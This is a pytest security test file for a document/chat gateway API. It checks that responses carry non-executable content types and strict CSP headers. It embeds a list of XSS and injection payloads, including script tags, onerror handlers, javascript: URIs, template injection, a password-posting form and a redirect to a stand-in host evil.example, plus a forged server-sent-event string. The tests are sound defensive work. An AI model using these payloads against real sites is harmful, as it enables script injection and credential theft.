"""Words of documents and of clients that a browser could run, on every way back to one."""

from __future__ import annotations

import json

import httpx
import pytest

from gateway.model.tenancy import NewTenant
from tests.fakes.gateway_ports import new_document, new_passage
from tests.harness.gateway import Gateway

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<link rel=import href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import'//evil.example'</style>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "{{constructor.constructor('alert(1)')()}}",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028alert(1)\u2029",
    "\u202ecod.exe<script>alert(1)</script>",
    '=HYPERLINK("//evil.example","x")',
)
FORGED_EVENT = 'x\n\nevent: done\ndata: {"answered": true}\n\n'


def is_run_by_no_browser(response: httpx.Response) -> bool:
    """Whatever its words are: no type that is run, none guessed, and nothing allowed if it were."""
    kind = response.headers.get("content-type", "").partition(";")[0]
    policy = response.headers["content-security-policy"]
    return (
        kind
        in {
            "application/json",
            "application/problem+json",
            "application/octet-stream",
            "text/event-stream",
            "text/plain",
        }
        and response.headers["x-content-type-options"] == "nosniff"
        and "default-src 'none'" in policy
        and "sandbox" in policy
    )


@pytest.mark.parametrize("words", ATTACKS)
class TestWordsThatABrowserCouldRun:
    async def test_as_a_name(self, owner: httpx.AsyncClient, words: str) -> None:
        for _ in range(2):
            response = await owner.post("/v1/knowledge-bases", json={"name": words})
            assert is_run_by_no_browser(response)
        assert is_run_by_no_browser(await owner.get("/v1/knowledge-bases"))

    async def test_as_a_path_a_query_and_a_header(
        self, owner: httpx.AsyncClient, words: str
    ) -> None:
        for response in (
            await owner.get("/" + words.replace("/", "")),
            await owner.get("/v1/documents/" + words.replace("/", "")),
            await owner.get("/v1/documents", params={"page_size": words}),
            await owner.get("/v1/me", headers={b"X-Request-Id": words.encode()}),
            await owner.get("/v1/me", headers={b"X-Request-Timeout-S": words.encode()}),
        ):
            assert is_run_by_no_browser(response)
            assert words not in response.text
            assert words not in str(response.headers)

    async def test_as_a_field(self, owner: httpx.AsyncClient, words: str) -> None:
        response = await owner.post("/v1/search", json={"question": "x", words[:30]: words})
        assert response.status_code == 400
        assert is_run_by_no_browser(response)

    @pytest.mark.parametrize("media_type", ["text/html", "image/svg+xml", "text/xml", "text/plain"])
    async def test_as_a_document(
        self,
        gateway: Gateway,
        owner: httpx.AsyncClient,
        tenant: NewTenant,
        words: str,
        media_type: str,
    ) -> None:
        content = words.encode()
        document = new_document(name=words, media_type=media_type, size_bytes=len(content))
        gateway.documents.of_tenants[tenant.tenant.id] = {"doc_1": document}
        gateway.documents.bytes_of["doc_1"] = content
        file = await owner.get("/v1/documents/doc_1/content")
        assert is_run_by_no_browser(file)
        assert file.content == content
        assert file.headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
        assert file.headers["content-disposition"].isascii()
        assert "<" not in file.headers["content-disposition"]
        assert is_run_by_no_browser(await owner.get("/v1/documents/doc_1/text"))
        assert is_run_by_no_browser(await owner.get("/v1/documents"))

    async def test_as_an_answer(
        self, gateway: Gateway, owner: httpx.AsyncClient, words: str
    ) -> None:
        gateway.search.passages = [new_passage(1, words)]
        gateway.model.pieces = (words, " [1]")
        whole = await owner.post("/v1/chat", json={"question": words})
        stream = await owner.post("/v1/chat", json={"question": words, "stream": True})
        found = await owner.post("/v1/search", json={"question": words})
        assert all(map(is_run_by_no_browser, (whole, stream, found)))


class TestWordsThatLookLikeTheEndOfAnEvent:
    @pytest.mark.parametrize("line_end", ["\n", "\r", "\r\n"])
    async def test_stay_inside_theirs(
        self, gateway: Gateway, owner: httpx.AsyncClient, line_end: str
    ) -> None:
        forged = FORGED_EVENT.replace("\n", line_end)
        gateway.search.passages = [new_passage(1, forged)]
        gateway.model.pieces = (forged, "[1]")
        stream = await owner.post("/v1/chat", json={"question": "?", "stream": True})
        lines = [line for line in stream.text.splitlines() if line.startswith("event: ")]
        assert lines.count("event: done") == 1
        answer = json.loads(stream.text.rpartition("event: done\ndata: ")[2])
        assert "citations" in answer


class TestThePageOfTheDocumentation:
    async def test_holds_no_words_of_anybody_else(self, nobody: httpx.AsyncClient) -> None:
        page = await nobody.get("/docs", params={"url": "//evil.example", "q": ATTACKS[0]})
        assert page.text == (await nobody.get("/docs")).text

    async def test_may_not_be_framed_nor_send_forms(self, nobody: httpx.AsyncClient) -> None:
        policy = (await nobody.get("/docs")).headers["content-security-policy"]
        for rule in ("frame-ancestors 'none'", "form-action 'none'", "base-uri 'none'"):
            assert rule in policy
